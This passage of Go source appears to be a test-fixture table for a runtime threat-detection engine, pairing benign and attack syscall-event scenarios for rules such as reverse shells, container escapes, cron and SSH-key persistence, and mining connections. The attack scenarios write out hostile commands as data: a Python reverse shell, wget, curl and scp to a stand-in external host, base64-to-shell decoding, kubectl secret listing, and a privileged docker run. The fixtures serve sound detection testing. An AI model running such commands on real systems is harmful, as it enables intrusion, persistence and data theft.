				cp := b.Spawn(TIDRootBash, "/usr/bin/cp", []string{"/tmp/x", "/dev/input/mice.d"})
				b.Open(cp, "/dev/input/mice.d", OWronly|OCreat|OTrunc|FCreated)
				b.Exit(cp)
			},
		},
		{
			Name: "dev_node_created", Rule: "Device Node or FIFO Created Below /dev", Count: 2,
			Benign: func(b *Builder) {
				b.Call(TIDUdevd, event.SyscallMknodatX, map[string]any{"res": 0, "dirfd": atFDCWD, "path": "/dev/sdb", "mode": 0o60660, "dev": 0x800010})
				fifo := b.Spawn(TIDAliceBash, "/usr/bin/mkfifo", []string{"/tmp/build.pipe"})
				b.Call(fifo, event.SyscallMknodatX, map[string]any{"res": 0, "dirfd": atFDCWD, "path": "/tmp/build.pipe", "mode": 0o10644})
				b.Exit(fifo)
				denied := b.Spawn(TIDAliceBash, "/usr/bin/mknod", []string{"/dev/mem2", "c", "1", "1"})
				b.Call(denied, event.SyscallMknodatX, map[string]any{"res": -13, "dirfd": atFDCWD, "path": "/dev/mem2", "mode": 0o20644, "dev": 0x100001}) // EACCES
				b.Exit(denied)
			},
			Attack: func(b *Builder) {
				// A raw disk node, as a privileged container makes to reach the host's file system, and a FIFO
				// for a reverse shell, named relative to the working directory /dev/shm.
				mk := b.Spawn(TIDRootBash, "/usr/bin/mknod", []string{"/dev/.sda", "b", "8", "0"})
				b.Call(mk, event.SyscallMknodatX, map[string]any{"res": 0, "dirfd": atFDCWD, "path": "/dev/.sda", "mode": 0o60600, "dev": 0x800000})
				b.Exit(mk)
				fifo := b.Spawn(TIDRootBash, "/usr/bin/mkfifo", []string{"f"})
				b.Chdir(fifo, "/dev/shm")
				b.Call(fifo, event.SyscallMknodatX, map[string]any{"res": 0, "dirfd": atFDCWD, "path": "f", "mode": 0o10644})
				b.Exit(fifo)
			},
		},
		{
			Name: "stdio_socket", Rule: "Standard Stream Redirected to Network Socket", Count: 3,
			Benign: func(b *Builder) {
				py := b.Spawn(TIDAliceBash, "/usr/bin/python3", []string{"client.py"})
				fd := b.Connect(py, hostAddr, addr("93.184.216.34:443"), 0)
				b.Call(py, event.SyscallDup2X, map[string]any{"res": 10, "oldfd": fd, "newfd": 10})
				b.Exit(py)
				log := b.Spawn(TIDAliceBash, "/usr/bin/make", nil)
				lf := b.Open(log, "/home/alice/build.log", OWronly|OCreat|OTrunc|FCreated)
				b.Call(log, event.SyscallDup2X, map[string]any{"res": 1, "oldfd": lf, "newfd": 1})
				b.Exit(log)
				wait := b.Spawn(TIDAliceBash, "/bin/bash", []string{"wait-for-db.sh"})
				wfd := b.Connect(wait, addr("127.0.0.1:40800"), addr("127.0.0.1:5432"), 0)           // exec 3<>/dev/tcp/127.0.0.1/5432
				b.Call(wait, event.SyscallDup2X, map[string]any{"res": 1, "oldfd": wfd, "newfd": 1}) // echo ping >&3
				b.Exit(wait)
				sshd := b.Fork(TIDSshd)
				sfd := b.Connect(sshd, addr("192.168.10.5:22"), addr("192.168.10.77:51234"), 0)
				b.Call(sshd, event.SyscallDup2X, map[string]any{"res": 0, "oldfd": sfd, "newfd": 0}) // re-exec hands over the client
				b.Exit(sshd)
			},
			Attack: func(b *Builder) {
				py := b.Spawn(TIDNginx, "/usr/bin/python3", []string{"-c", "import socket,os,pty;..."})
				fd := b.Connect(py, hostAddr, addr("203.0.113.7:9001"), 0)
				for n := range int64(3) {
					b.Call(py, event.SyscallDup2X, map[string]any{"res": n, "oldfd": fd, "newfd": n})
				}
				b.Exit(py)
			},
		},
		{
			Name: "packet_socket", Rule: "Packet Socket Created in Container", Count: 1,
			Benign: func(b *Builder) {
				b.Call(TIDAppInCtr, event.SocketSocketX, map[string]any{"fd": 7, "domain": 2, "type": 2, "proto": 0})
				dh := b.Spawn(TIDInit, "/usr/sbin/dhclient", []string{"eth0"})
				b.Call(dh, event.SocketSocketX, map[string]any{"fd": 5, "domain": 17, "type": 3, "proto": 768})
				b.Exit(dh)
			},
			Attack: func(b *Builder) {
				sp := b.Spawn(TIDAppInCtr, "/usr/local/bin/arpspoof", []string{"-i", "eth0", "172.17.0.1"})
				b.Call(sp, event.SocketSocketX, map[string]any{"fd": 3, "domain": 17, "type": 3, "proto": 1544})
				b.Exit(sp)
			},
		},
		{
			Name: "container_setns", Rule: "Namespace Joined from Container", Count: 1,
			Benign: func(b *Builder) {
				ns := b.Spawn(TIDRootBash, "/usr/bin/nsenter", []string{"-t", "3001", "-n"})
				fd := b.Open(ns, "/proc/3001/ns/net", ORdonly|OCloexec)
				b.Call(ns, event.SyscallSetnsX, map[string]any{"res": 0, "fd": fd, "nstype": 16}) // CLONE_NEWNET
				b.Exit(ns)
			},
			Attack: func(b *Builder) {
				ns := b.Spawn(TIDAppInCtr, "/usr/bin/nsenter", []string{"-t", "1", "-m", "sh"})
				fd := b.Open(ns, "/proc/1/ns/mnt", ORdonly|OCloexec)                              // the host's init, seen through hostPID
				b.Call(ns, event.SyscallSetnsX, map[string]any{"res": 0, "fd": fd, "nstype": 32}) // CLONE_NEWNS
				b.Exit(ns)
			},
		},
		{
			Name: "hidden_tmp_file", Rule: "Hidden File Created in Temporary Directory", Count: 2,
			Benign: func(b *Builder) {
				b.Open(TIDAliceBash, "/tmp/build.log", OWronly|OCreat|FCreated)
				b.Call(TIDInit, event.SyscallMkdiratX, map[string]any{"res": 0, "dirfd": atFDCWD, "path": "/tmp/.X11-unix", "mode": 0o1777})
				b.Open(TIDAliceBash, "/tmp/.lock", OWronly|OCreat) // already existed
				b.Open(TIDInit, "/tmp/.X0-lock", OWronly|OCreat|FCreated)
			},
			Attack: func(b *Builder) {
				b.Open(TIDNginx, "/dev/shm/.x", OWronly|OCreat|FCreated)
				b.Call(TIDNginx, event.SyscallMkdiratX, map[string]any{"res": 0, "dirfd": atFDCWD, "path": "/var/tmp/.cache", "mode": 0o755})
			},
		},
		{
			Name: "tmp_exec", Rule: "Program Executed from Temporary Directory", Count: 1,
			Benign: func(b *Builder) {
				ls := b.Spawn(TIDAliceBash, "/usr/bin/ls", []string{"/tmp"})
				b.Exit(ls)
				test := b.Spawn(TIDAliceBash, "/tmp/go-build3071/b001/rules.test", []string{"-test.v"})
				b.Exit(test)
				gotmp := b.Spawn(TIDAliceBash, "/tmp/ci/gotmp/go-build5512/b042/probe.test", []string{"-test.count=1"})
				b.Call(gotmp, event.SyscallBpfV2X, map[string]any{"fd": 7, "cmd": 5}) // its own probe, under test
				b.Exit(gotmp)
			},
			Attack: func(b *Builder) {
				x := b.Spawn(TIDNginx, "/var/tmp/kworker", nil)
				b.Exit(x)
			},
		},
		{
			Name: "authorized_keys", Rule: "SSH Authorized Keys Modified", Count: 1,
			Benign: func(b *Builder) {
				b.Open(TIDSshd, "/home/alice/.ssh/authorized_keys", ORdonly)
				ci := b.Spawn(TIDInit, "/usr/bin/cloud-init", []string{"modules"})
				b.Open(ci, "/root/.ssh/authorized_keys", OWronly|OCreat|OTrunc)
				b.Exit(ci)
			},
			Attack: func(b *Builder) {
				b.Open(TIDRootBash, "/root/.ssh/authorized_keys", OWronly|OCreat|OAppend) // echo ... >> authorized_keys
			},
		},
		{
			Name: "scheduler_file", Rule: "Scheduled Task or Service File Written", Count: 1,
			Benign: func(b *Builder) {
				sc := b.Spawn(TIDRootBash, "/usr/bin/systemctl", []string{"edit", "nginx"})
				b.Open(sc, "/etc/systemd/system/nginx.service.d/override.conf", OWronly|OCreat|OTrunc|FCreated)
				b.Exit(sc)
				cat := b.Spawn(TIDAliceBash, "/usr/bin/cat", []string{"/etc/crontab"})
				b.Open(cat, "/etc/crontab", ORdonly)
				b.Exit(cat)
			},
			Attack: func(b *Builder) {
				tee := b.Spawn(TIDRootBash, "/usr/bin/tee", []string{"/etc/cron.d/updater"})
				b.Open(tee, "/etc/cron.d/updater", OWronly|OCreat|OTrunc|FCreated)
				b.Exit(tee)
			},
		},
		{
			Name: "shell_config", Rule: "Shell Configuration File Modified", Count: 2,
			Benign: func(b *Builder) {
				b.Open(TIDAliceBash, "/home/alice/.bashrc", ORdonly)
				dpkg := b.Spawn(TIDRootBash, "/usr/bin/dpkg", []string{"-i", "bash.deb"})
				b.Open(dpkg, "/etc/bash.bashrc.dpkg-new", OWronly|OCreat|FCreated)
				b.Open(dpkg, "/etc/skel/.bashrc", OWronly|OCreat|OTrunc)
				b.Exit(dpkg)
			},
			Attack: func(b *Builder) {
				b.Open(TIDAliceBash, "/home/alice/.bashrc", OWronly|OAppend) // echo ... >> ~/.bashrc
				tee := b.Spawn(TIDRootBash, "/usr/bin/tee", []string{"/etc/profile.d/motd.sh"})
				b.Open(tee, "/etc/profile.d/motd.sh", OWronly|OCreat|OTrunc|FCreated)
				b.Exit(tee)
			},
		},
		{
			Name: "job_scheduler", Rule: "Job Scheduler Command Run", Count: 2,
			Benign: func(b *Builder) {
				run := b.Spawn(TIDCrond, "/bin/sh", []string{"-c", "run-parts /etc/cron.daily"})
				b.Exit(run)
			},
			Attack: func(b *Builder) {
				ct := b.Spawn(TIDNginx, "/usr/bin/crontab", []string{"-l"})
				b.Exit(ct)
				ed := b.Spawn(TIDAliceBash, "/usr/bin/crontab", []string{"-e"})
				b.Open(ed, "/var/spool/cron/crontabs/alice", OWronly|OCreat|OTrunc)
				b.Exit(ed)
			},
		},
		{
			Name: "etc_write", Rule: "File Below /etc Written by Unexpected Program", Count: 2,
			Benign: func(b *Builder) {
				apt := b.Spawn(TIDRootBash, "/usr/bin/apt-get", []string{"install", "nginx"})
				dpkg := b.Spawn(apt, "/usr/bin/dpkg", []string{"--configure", "-a"})
				post := b.Spawn(dpkg, "/bin/sh", []string{"/var/lib/dpkg/info/nginx-common.postinst", "configure"})
				b.Open(post, "/etc/nginx/conf.d/default.conf", OWronly|OCreat|OTrunc|FCreated)
				b.Exit(post)
				b.Exit(dpkg)
				b.Exit(apt)
				upd := b.Spawn(TIDRootBash, "/usr/sbin/update-ca-certificates", nil)
				ln := b.Spawn(upd, "/usr/bin/ln", []string{"-s", "/usr/share/ca-certificates/x.crt", "/etc/ssl/certs/x.pem"})
				b.Open(ln, "/etc/ssl/certs/ca-certificates.crt.new", OWronly|OCreat|FCreated)
				b.Exit(ln)
				b.Exit(upd)
				ld := b.Spawn(TIDRootBash, "/sbin/ldconfig", nil)
				b.Open(ld, "/etc/ld.so.cache~", OWronly|OCreat|OTrunc|FCreated)
				b.Exit(ld)
				b.Open(TIDAliceBash, "/etc/hosts", ORdonly)
			},
			Attack: func(b *Builder) {
				b.Open(TIDRootBash, "/etc/ld.so.preload", OWronly|OCreat|OTrunc|FCreated)
				py := b.Spawn(TIDNginx, "/usr/bin/python3", []string{"-c", "open('/etc/resolv.conf','w')"})
				b.Open(py, "/etc/resolv.conf", OWronly|OCreat|OTrunc)
				b.Exit(py)
			},
		},
		{
			Name: "root_write", Rule: "File Directly in /root Written", Count: 1,
			Benign: func(b *Builder) {
				b.Open(TIDRootBash, "/root/.bash_history", OWronly|OAppend)
				b.Open(TIDRootBash, "/root/.cache/go-build/00/abc-d", OWronly|OCreat|FCreated)
				b.Open(TIDRootBash, "/root/notes.txt", ORdonly)
			},
			Attack: func(b *Builder) {
				wget := b.Spawn(TIDRootBash, "/usr/bin/wget", []string{"http://203.0.113.7/x"})
				b.Open(wget, "/root/x", OWronly|OCreat|OTrunc|FCreated)
				b.Exit(wget)
			},
		},
		{
			Name: "hidden_system_file", Rule: "Hidden File Created in System Directory", Count: 2,
			Benign: func(b *Builder) {
				pw := b.Spawn(TIDAliceBash, "/usr/bin/passwd", nil, AsUser(0))
				b.Open(pw, "/etc/.pwd.lock", OWronly|OCreat|FCreated)
				b.Exit(pw)
				vim := b.Spawn(TIDRootBash, "/usr/bin/vim", []string{"/etc/hosts"})
				b.Open(vim, "/etc/.hosts.swp", ORdwr|OCreat|FCreated)
				b.Exit(vim)
				b.Call(TIDAliceBash, event.SyscallMkdiratX, map[string]any{"res": 0, "dirfd": atFDCWD, "path": "/home/alice/.config", "mode": 0o755})
				b.Call(TIDRootBash, event.SyscallMkdiratX, map[string]any{"res": 0, "dirfd": atFDCWD, "path": "/usr/share/doc/pkg/.hidden", "mode": 0o755})
				b.Call(TIDRootBash, event.SyscallMkdiratX, map[string]any{"res": 0, "dirfd": atFDCWD, "path": "/nonexistent/.config", "mode": 0o755})
			},
			Attack: func(b *Builder) {
				b.Open(TIDRootBash, "/etc/.ssh-agent.sock", OWronly|OCreat|FCreated)
				b.Call(TIDRootBash, event.SyscallMkdiratX, map[string]any{"res": 0, "dirfd": atFDCWD, "path": "/usr/lib/.x", "mode": 0o755})
			},
		},
		{
			Name: "ssh_directory_read", Rule: "SSH Directory Read by Unexpected Program", Count: 2,
			Benign: func(b *Builder) {
				b.Open(TIDSshd, "/root/.ssh/authorized_keys", ORdonly)
				ssh := b.Spawn(TIDAliceBash, "/usr/bin/ssh", []string{"host"})
				b.Open(ssh, "/home/alice/.ssh/known_hosts", ORdonly)
				b.Exit(ssh)
			},
			Attack: func(b *Builder) {
				ls := b.Spawn(TIDNginx, "/usr/bin/ls", []string{"-a", "/root/.ssh"})
				b.Open(ls, "/root/.ssh", ORdonly|1<<11) // O_DIRECTORY
				b.Exit(ls)
				cat := b.Spawn(TIDNginx, "/usr/bin/cat", []string{"/home/alice/.ssh/known_hosts"})
				b.Open(cat, "/home/alice/.ssh/known_hosts", ORdonly)
				b.Exit(cat)
			},
		},
		{
			Name: "network_tool", Rule: "Network Scanner or Relay Tool Started", Count: 2,
			Benign: func(b *Builder) {
				ss := b.Spawn(TIDAliceBash, "/usr/bin/ss", []string{"-tln"})
				b.Exit(ss)
				dig := b.Spawn(TIDAliceBash, "/usr/bin/dig", []string{"example.org"})
				b.Exit(dig)
			},
			Attack: func(b *Builder) {
				nmap := b.Spawn(TIDNginx, "/usr/bin/nmap", []string{"-sS", "10.0.0.0/24"})
				b.Exit(nmap)
				nc := b.Spawn(TIDAppInCtr, "/usr/bin/nc", []string{"-lvp", "4444"})
				b.Exit(nc)
			},
		},
		{
			Name: "mining_pool_port", Rule: "Connection to Mining Pool Port", Count: 2,
			Benign: func(b *Builder) {
				curl := b.Spawn(TIDAliceBash, "/usr/bin/curl", []string{"http://127.0.0.1:3333/"})
				b.Connect(curl, addr("127.0.0.1:40500"), addr("127.0.0.1:3333"), 0)
				b.Exit(curl)
				b.Connect(TIDAppInCtr, addr("172.17.0.2:40600"), addr("172.17.0.3:5432"), 0)
			},
			Attack: func(b *Builder) {
				b.Connect(TIDAppInCtr, addr("172.17.0.2:40700"), addr("198.51.100.40:14444"), 0)
				b.Connect(TIDAppInCtr, addr("172.17.0.2:40701"), addr("198.51.100.41:3333"), -115) // EINPROGRESS
			},
		},
		{
			Name: "http_proxy_env", Rule: "Download Tool Run with Unlisted HTTP Proxy", Count: 2,
			Benign: func(b *Builder) {
				curl := b.Spawn(TIDAliceBash, "/usr/bin/curl", []string{"https://example.org/"})
				b.Exit(curl)
				py := b.Spawn(TIDAliceBash, "/usr/bin/python3", []string{"fetch.py"}, Env("HTTPS_PROXY=http://10.0.0.8:3128"))
				b.Exit(py)
			},
			Attack: func(b *Builder) {
				curl := b.Spawn(TIDNginx, "/usr/bin/curl", []string{"http://example.org/"}, Env("HTTP_PROXY=http://203.0.113.7:8080"))
				b.Exit(curl)
				wget := b.Spawn(TIDAliceBash, "/usr/bin/wget", []string{"https://example.org/"}, Env("https_proxy=http://203.0.113.7:3128"))
				b.Exit(wget)
			},
		},
		{
			Name: "glibc_tunables", Rule: "Glibc Tunables Set for Program", Count: 1,
			Benign: func(b *Builder) {
				java := b.Spawn(TIDAppInCtr, "/usr/bin/java", []string{"-jar", "app.jar"}, Env("MALLOC_ARENA_MAX=2"))
				b.Exit(java)
			},
			Attack: func(b *Builder) {
				ls := b.Spawn(TIDAliceBash, "/usr/bin/ls", nil, Env("GLIBC_TUNABLES=glibc.malloc.tcache_count=0"))
				b.Exit(ls)
			},
		},
		{
			Name: "setuid_attempt", Rule: "Non-root Process Tried to Change User", Count: 3,
			Benign: func(b *Builder) {
				b.Call(TIDNginx, event.SyscallSetuidX, map[string]any{"res": 0, "uid": 33}) // dropping to itself
				b.Call(TIDNginx, event.SyscallSetresuidX, map[string]any{"res": 0, "ruid": 33, "euid": 33, "suid": 33})
				sudo := b.Spawn(TIDAliceBash, "/usr/bin/sudo", []string{"-i"}, AsUser(0))
				b.Call(sudo, event.SyscallSetuidX, map[string]any{"res": 0, "uid": 0})
				b.Exit(sudo)
			},
			Attack: func(b *Builder) {
				x := b.Spawn(TIDNginx, "/var/www/html/uploads/getroot", nil)
				b.Call(x, event.SyscallSetuidX, map[string]any{"res": -1, "uid": 0}) // EPERM
				b.Exit(x)
				y := b.Spawn(TIDNginx, "/var/www/html/uploads/su2", nil)
				b.Call(y, event.SyscallSetuidX, map[string]any{"res": -1, "uid": 1000}) // EPERM: alice
				b.Exit(y)
				b.Call(TIDNginx, event.SyscallSetresuidX, map[string]any{"res": -1, "ruid": 0, "euid": 0, "suid": 0}) // EPERM
			},
		},
		{
			Name: "bpf_load", Rule: "BPF Program Loaded", Count: 1,
			Benign: func(b *Builder) {
				b.Call(TIDInit, event.SyscallBpfV2X, map[string]any{"fd": 42, "cmd": 5}) // cgroup device filter
				tool := b.Spawn(TIDRootBash, "/usr/sbin/bpftool", []string{"prog", "show"})
				b.Call(tool, event.SyscallBpfV2X, map[string]any{"fd": 3, "cmd": 11}) // BPF_PROG_GET_NEXT_ID
				b.Exit(tool)
				fail := b.Spawn(TIDAliceBash, "/home/alice/loader", nil)
				b.Call(fail, event.SyscallBpfV2X, map[string]any{"fd": -1, "cmd": 5}) // EPERM: nothing loaded
				b.Exit(fail)
			},
			Attack: func(b *Builder) {
				x := b.Spawn(TIDRootBash, "/root/.local/bin/kit", nil)
				b.Call(x, event.SyscallBpfV2X, map[string]any{"fd": 4, "cmd": 0}) // BPF_MAP_CREATE
				b.Call(x, event.SyscallBpfV2X, map[string]any{"fd": 5, "cmd": 5}) // BPF_PROG_LOAD
				b.Exit(x)
			},
		},
		{
			Name: "kernel_module_unload", Rule: "Kernel Module Unload Attempted", Count: 1,
			Benign: func(b *Builder) {
				b.Call(TIDUdevd, event.SyscallDeleteModuleX, map[string]any{"res": 0, "name": "pcspkr", "flags": 2}) // O_NONBLOCK
			},
			Attack: func(b *Builder) {
				rm := b.Spawn(TIDRootBash, "/usr/sbin/rmmod", []string{"diamorphine"})
				b.Call(rm, event.SyscallDeleteModuleX, map[string]any{"res": 0, "name": "diamorphine", "flags": 2})
				b.Exit(rm)
			},
		},
		{
			Name: "container_package_manager", Rule: "Package Manager Run in Container", Count: 1,
			Benign: func(b *Builder) {
				apt := b.Spawn(TIDRootBash, "/usr/bin/apt-get", []string{"update"})
				b.Exit(apt)
			},
			Attack: func(b *Builder) {
				apt := b.Spawn(TIDAppInCtr, "/usr/bin/apt-get", []string{"install", "-y", "nmap"})
				dpkg := b.Spawn(apt, "/usr/bin/dpkg", []string{"--unpack", "nmap.deb"})
				b.Exit(dpkg)
				b.Exit(apt)
			},
		},
		{
			Name: "container_remote_copy", Rule: "Remote File Copy Tool Run in Container", Count: 2,
			Benign: func(b *Builder) {
				wget := b.Spawn(TIDRootBash, "/usr/bin/wget", []string{"https://example.org/a.tar.gz"})
				b.Exit(wget)
			},
			Attack: func(b *Builder) {
				curl := b.Spawn(TIDAppInCtr, "/usr/bin/curl", []string{"-o", "/tmp/x", "http://203.0.113.7/x"})
				b.Exit(curl)
				scp := b.Spawn(TIDAppInCtr, "/usr/bin/scp", []string{"/app/db.sqlite", "u@203.0.113.7:"})
				b.Exit(scp)
			},
		},
		{
			Name: "container_client", Rule: "Container or Cluster Client Run in Container", Count: 2,
			Benign: func(b *Builder) {
				docker := b.Spawn(TIDRootBash, "/usr/bin/docker", []string{"ps"})
				b.Exit(docker)
			},
			Attack: func(b *Builder) {
				k := b.Spawn(TIDAppInCtr, "/usr/local/bin/kubectl", []string{"get", "secrets", "-A"})
				b.Exit(k)
				d := b.Spawn(TIDAppInCtr, "/usr/local/bin/docker", []string{"-H", "unix:///var/run/docker.sock", "run", "--privileged", "alpine"})
				b.Exit(d)
			},
		},
		{
			Name: "container_base64", Rule: "Base64 Decoding in Container", Count: 1,
			Benign: func(b *Builder) {
				enc := b.Spawn(TIDAppInCtr, "/usr/bin/base64", []string{"/app/logo-d.png"})
				b.Exit(enc)
				dec := b.Spawn(TIDAliceBash, "/usr/bin/base64", []string{"-d", "cert.b64"})
				b.Exit(dec)
			},
			Attack: func(b *Builder) {
				sh := b.Spawn(TIDAppInCtr, "/bin/sh", []string{"-c", "echo Y3VybCBodHRwOi8v | base64 -d | sh"})
				dec := b.Spawn(sh, "/usr/bin/base64", []string{"-d"})
				b.Exit(dec)
				b.Exit(sh)
			},
		},
		{
			Name: "container_drift", Rule: "Program Dropped into Container Executed", Count: 1,
			Benign: func(b *Builder) {
				py := b.Spawn(TIDAppInCtr, "/usr/local/bin/python3", []string{"worker.py"}, ExeFlags(8)) // lower layer: from the image
				b.Exit(py)
				host := b.Spawn(TIDRootBash, "/usr/local/bin/tool", nil, ExeFlags(2))
				b.Exit(host)
			},
			Attack: func(b *Builder) {
				x := b.Spawn(TIDAppInCtr, "/app/.cache/kdevtmpfsi", nil, ExeFlags(2)) // upper layer
				b.Exit(x)
			},
		},
	}
}
